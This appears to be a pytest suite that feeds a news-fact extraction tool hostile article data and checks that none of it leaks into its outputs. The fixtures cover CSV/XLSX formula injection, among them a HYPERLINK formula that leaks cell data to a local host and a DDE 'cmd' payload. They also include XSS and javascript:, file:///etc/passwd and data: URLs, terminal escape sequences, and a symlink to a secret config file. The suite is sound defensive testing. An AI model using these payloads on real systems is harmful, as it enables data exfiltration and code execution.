"""Hostile input, round 2: nothing in an article reaches a spreadsheet formula, a Markdown
viewer, a terminal or a secret, and no one article or folder holds up the batch.

Every payload is made here and goes through the installed `factsheet` command.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

FACTSHEET = [str(Path(sys.executable).with_name("factsheet"))]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
KILLED = "Officials said 14 people were killed in Kherson on Monday."


def _run(*args: str, cwd: Path | None = None, prefix: list[str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*(prefix or []), *FACTSHEET, *args], capture_output=True, text=True, cwd=cwd, timeout=600
    )


def _jsonl(path: Path, records: list[dict]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")


def _day(out: Path) -> Path:
    [day] = [p for p in out.iterdir() if p.is_dir() and not p.name.startswith(".")]
    return day


def _lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.strip()]


# 1. Formulas --------------------------------------------------------------------------


def test_no_cell_of_the_xlsx_or_csv_is_a_formula_whatever_the_id_or_file_name(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    link = '=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"open")'
    _jsonl(
        folder / "=2+3.jsonl",  # the source path, run from inside the folder, starts with "="
        [
            {"id": link, "text": KILLED, "published": "2025-08-06", "title": "+cmd|' /C calc'!A0"},
            {
                "id": "@SUM(1+1)",
                "text": "Police said 9 people were killed in Odesa on Tuesday.",
                "published": "2025-08-06",
                "outlet": "-2+3",
            },
        ],
    )
    done = _run("run", ".", "--out", str(tmp_path / "out"), "-q", cwd=folder)
    assert done.returncode == 0, done.stderr
    day = _day(tmp_path / "out")

    book = load_workbook(day / "facts.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                seen.append(cell.value)
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), f"{sheet.title}!{cell.coordinate}"
    assert "'" + link in seen and "'@SUM(1+1)" in seen and "'=2+3.jsonl" in seen  # kept, as text
    assert any(
        isinstance(v, str) and v.startswith("'" + link) for v in (c.value for c in book["Events"]["D"])
    )

    with (day / "facts.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) > 2
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START), value


def test_the_safe_csv_writer_neutralises_every_formula_leading_cell():
    from factsheet.export import SafeDictWriter, safe_csv_row

    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["id", "donor", "amount"])
    writer.writeheader()
    writer.writerow({"id": "@evt", "donor": "=1+1", "amount": 5})
    writer.writerows([{"id": "-x", "donor": "+\x1b[2J", "amount": -3}])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "donor", "amount"], ["'@evt", "'=1+1", "5"], ["'-x", "'+\u241b[2J", "-3"]]
    assert safe_csv_row(["=A1", "\tX", 7, "plain"]) == ["'=A1", "'\tX", 7, "plain"]


# 2. Markdown --------------------------------------------------------------------------

_ALLOWED_TAGS = {
    "p",
    "h1",
    "h2",
    "h3",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "code",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "blockquote",
    "hr",
    "br",
    "a",
    "sup",
    "section",
    "pre",
}


def _as_html(markdown: str) -> str:
    """CommonMark with tables, rendered by a viewer that trusts every link scheme."""
    renderer = MarkdownIt("commonmark").enable("table")
    renderer.validateLink = lambda url: True  # a lax viewer: any scheme would be a live link
    return renderer.render(markdown)


def test_markdown_outputs_render_no_image_no_foreign_link_and_no_raw_html(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    good_url = "https://example.org/news/1?a=b&c=(d)"
    records = [
        {
            "id": "img-url",
            "url": "http://a<![x](http://127.0.0.1:9/t)",
            "title": "Raid ![pixel](http://127.0.0.1:9/title.png) <img src=x onerror=alert(1)>",
            "outlet": "[click](javascript:alert(1)) <script>alert(2)</script>",
            "text": "Officials said 14 people were killed in <b>Kherson</b> on Monday ![p](http://127.0.0.1:9/q).",
        },
        {
            "id": "a`<img src=http://127.0.0.1:9/b>`b",
            "url": "javascript:alert(1)",
            "text": "Police said 9 people were killed in Odesa on Tuesday.",
        },
        {
            "id": "file-url",
            "url": "file:///etc/passwd",
            "text": "Medics said 6 people were killed in Sumy on Wednesday.",
        },
        {
            "id": "data-url",
            "url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "text": "Rescuers said 4 people were killed in Dnipro on Thursday.",
        },
        {
            "id": "``x``|<u>|",
            "url": good_url,
            "title": "# Not a heading\n> not a quote\n1. not a list",
            "text": "Germany pledged $500 million in aid to Ukraine on Friday, the ministry said.",
        },
    ]
    for record in records:
        record["published"] = "2025-08-06"
    _jsonl(folder / "hostile.jsonl", records)
    done = _run("run", str(folder), "--out", str(tmp_path / "out"), "-q")
    assert done.returncode == 0, done.stderr
    day = _day(tmp_path / "out")

    for name in ("briefing.md", "briefing-full.md", "validation.md"):
        html = _as_html((day / name).read_text(encoding="utf-8"))
        assert "<img" not in html, name
        assert "<script" not in html and "<b>" not in html and "<u>" not in html, name
        tags = {t.lower() for t in re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", html)}
        assert tags <= _ALLOWED_TAGS, (name, tags - _ALLOWED_TAGS)
        for href in re.findall(r'href="([^"]*)"', html):
            assert href.startswith(("http://", "https://")), (name, href)
            assert "127.0.0.1" not in href, (name, href)  # only an article's own URL is a link
    briefing = _as_html((day / "briefing-full.md").read_text(encoding="utf-8"))
    assert 'href="https://example.org/news/1?a=b&amp;c=(d)"' in briefing  # an http(s) URL stays a link
    assert "javascript:alert(1)" in briefing and "file:///etc/passwd" in briefing  # shown, as text
    assert "<h1>Not a heading" not in briefing and "<blockquote>" not in briefing
    validation = _as_html((day / "validation.md").read_text(encoding="utf-8"))
    # the backtick id is one code span, whole
    assert "<code>a`&lt;img src=http://127.0.0.1:9/b&gt;`b</code>" in validation


# 8. Control characters ----------------------------------------------------------------


def test_escape_nul_and_c1_controls_from_an_article_reach_no_text_file_and_no_pdf(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    text = "Officials said 14 people were\x1b[2J\x1b]0;pwned\x07 killed in Kherson\x00 on Monday\x9b31m."
    title = "Clear\x1b[H\x1b[2J"
    _jsonl(
        folder / "esc.jsonl", [{"id": "esc\x1b[1m", "published": "2025-08-06", "title": title, "text": text}]
    )
    done = _run("run", str(folder), "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    day = _day(tmp_path / "out")
    controls = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
    for name in ("briefing.md", "briefing-full.md", "validation.md"):
        written = (day / name).read_text(encoding="utf-8")
        assert not controls.search(written), (name, controls.findall(written))
        assert "\u241b" in written, name  # pictured, not dropped
    if shutil.which("pdftotext"):  # poppler reads the text as drawn (pypdf garbles embedded fonts)
        drawn = subprocess.run(
            ["pdftotext", str(day / "briefing.pdf"), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert "\u241b" in drawn and not controls.search(drawn.replace("\f", ""))
    facts = json.loads((day / "facts.json").read_text(encoding="utf-8"))
    assert any("\x1b" in f["quote"] for f in facts["facts"])  # the data keeps the text as read
    assert not controls.search(done.stdout + done.stderr)


def test_printable_pictures_what_a_terminal_would_obey():
    from factsheet.printable import printable

    shown = printable("id\x1b]0;title\x07\x1b[2J\x9b1;1H\u202egnp.exe\nsecond\ttab\x00")
    assert shown == "id\u241b]0;title\u2407\u241b[2J\ufffd1;1H[U+202E]gnp.exe\u240asecond\ttab\u2400"
    assert printable("a\nb", newlines=True) == "a\nb"


# 3. Symbolic links --------------------------------------------------------------------


def test_a_link_out_of_the_input_folder_is_refused_and_the_secret_reaches_no_output(tmp_path):
    secret = "sk-round2-SECRET-7f3a9c"
    config = tmp_path / "home" / ".config" / "factsheet"
    config.mkdir(parents=True)
    (config / "config.toml").write_text(
        f'api_key = "{secret}"\n# Police said 3 people were killed in Lviv on Monday.\n', encoding="utf-8"
    )
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "real.txt").write_text(KILLED + "\n", encoding="utf-8")
    os.symlink(config / "config.toml", folder / "config.txt")
    os.symlink("real.txt", folder / "inside.txt")  # a link inside the folder is fine
    out = tmp_path / "out"
    done = _run("run", str(folder), "--out", str(out), "-q", "--published", "2025-08-06")
    assert done.returncode == 1, done.stderr
    [line] = _lines(done.stderr)
    assert "config.txt" in line and "outside the folders given" in line and "--follow-links" in line
    for path in out.rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path
    facts = json.loads((_day(out) / "facts.json").read_text(encoding="utf-8"))
    assert {s["id"] for s in facts["sources"]} == {"real", "inside"}

    followed = _run(
        "run",
        str(folder),
        "--out",
        str(tmp_path / "out2"),
        "-q",
        "--published",
        "2025-08-06",
        "--follow-links",
    )
    assert followed.returncode == 0, followed.stderr
    assert secret in (_day(tmp_path / "out2") / "articles.jsonl").read_text(encoding="utf-8")


# 10. Time budget ----------------------------------------------------------------------


def test_one_huge_dense_article_is_cut_at_its_time_budget_and_the_batch_goes_on(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    places = ["Kyiv", "Kharkiv", "Odesa", "Dnipro", "Sumy", "Lviv", "Kherson", "Mykolaiv"]
    days = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]
    sentences = [
        f"Police said {n % 80 + 2} people were killed in {places[n % 8]} on {days[n % 5]}."
        for n in range(6000)
    ]
    (folder / "huge.txt").write_text(" ".join(sentences) + "\n", encoding="utf-8")  # one line, ~330 KB
    (folder / "small.txt").write_text(
        "Medics said 6 people were killed in Sumy on Sunday.\n", encoding="utf-8"
    )
    started = time.monotonic()
    done = _run(
        "run",
        str(folder),
        "--out",
        str(tmp_path / "out"),
        "-q",
        "--published",
        "2025-08-06",
        "--article-timeout",
        "1",
        "--workers",
        "1",
    )
    seconds = time.monotonic() - started
    assert done.returncode == 1, done.stderr
    [line] = _lines(done.stderr)
    assert "huge.txt" in line and "time budget" in line
    read, total = (
        int(n.replace(",", "")) for n in re.search(r"([\d,]+) of ([\d,]+) characters", line).groups()
    )
    assert 0 < read < total // 2
    facts = json.loads((_day(tmp_path / "out") / "facts.json").read_text(encoding="utf-8"))["facts"]
    assert any(f["doc"] == "small" for f in facts)
    from_huge = [f for f in facts if f["doc"] == "huge"]
    assert from_huge and max(f["end"] for f in from_huge) <= read  # what was read before the budget
    assert "from that part kept" in line
    assert seconds < 240  # the whole article takes minutes on a busy machine


def test_the_budget_is_documented_in_the_help():
    done = _run("run", "--help")
    assert "--article-timeout" in done.stdout and "60" in done.stdout


# 11. Smaller --------------------------------------------------------------------------


@pytest.mark.parametrize("codec", ["base64", "rot13", "zlib"])
def test_a_non_text_codec_declared_as_charset_is_ignored_with_a_warning(tmp_path, codec):
    pytest.importorskip("trafilatura")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "page.html").write_text(
        f'<html><head><meta charset="{codec}"><title>Raid</title></head><body><article><p>{KILLED}</p>'
        "<p>The regional governor said rescue work went on through the night.</p></article></body></html>",
        encoding="utf-8",
    )
    done = _run("run", str(folder), "--out", str(tmp_path / "out"), "--published", "2025-08-06")
    assert done.returncode == 0, done.stderr
    assert any(
        "warning:" in line and "page.html" in line and codec in line and "ignored" in line
        for line in _lines(done.stderr)
    )


def test_a_folder_named_like_an_article_is_reported(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(KILLED + "\n", encoding="utf-8")
    (folder / "x.txt").mkdir()
    done = _run("run", str(folder), "--out", str(tmp_path / "out"), "-q", "--published", "2025-08-06")
    assert done.returncode == 1, done.stderr
    [line] = _lines(done.stderr)
    assert "x.txt" in line and "folder" in line


def _without_root_powers() -> list[str] | None:
    """A command prefix under which file permissions apply (root ignores them), or None."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    prefix = [setpriv, "--bounding-set=-dac_override,-dac_read_search", "--"]
    probe = subprocess.run([*prefix, "true"], capture_output=True)
    return prefix if probe.returncode == 0 else None


@pytest.mark.parametrize("mode", [0o000, 0o400])
def test_one_unreadable_input_folder_costs_one_line_and_the_rest_is_read(tmp_path, mode):
    prefix = _without_root_powers()
    if prefix is None:
        pytest.skip("cannot drop root's permission override here")
    good = tmp_path / "good"
    good.mkdir()
    (good / "a.txt").write_text(KILLED + "\n", encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir()
    for n in range(3):
        (locked / f"b{n}.txt").write_text("Police said 9 people were killed in Odesa on Tuesday.\n")
    locked.chmod(mode)
    try:
        done = _run(
            "run",
            str(good),
            str(locked),
            "--out",
            str(tmp_path / "out"),
            "-q",
            "--published",
            "2025-08-06",
            prefix=prefix,
        )
    finally:
        locked.chmod(0o700)
    assert done.returncode == 1, done.stderr
    [line] = _lines(done.stderr)
    assert "locked" in line and "Permission denied" in line and "Traceback" not in done.stderr
    assert (_day(tmp_path / "out") / "briefing.md").is_file()


def test_a_briefing_date_beyond_tomorrow_is_warned_about(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(KILLED + "\n", encoding="utf-8")
    done = _run(
        "run",
        str(folder),
        "--out",
        str(tmp_path / "out"),
        "--date",
        "2925-08-05",
        "--published",
        "2025-08-06",
    )
    assert done.returncode == 0, done.stderr
    assert any(
        "warning:" in line and "2925-08-05" in line and "future" in line for line in _lines(done.stderr)
    )
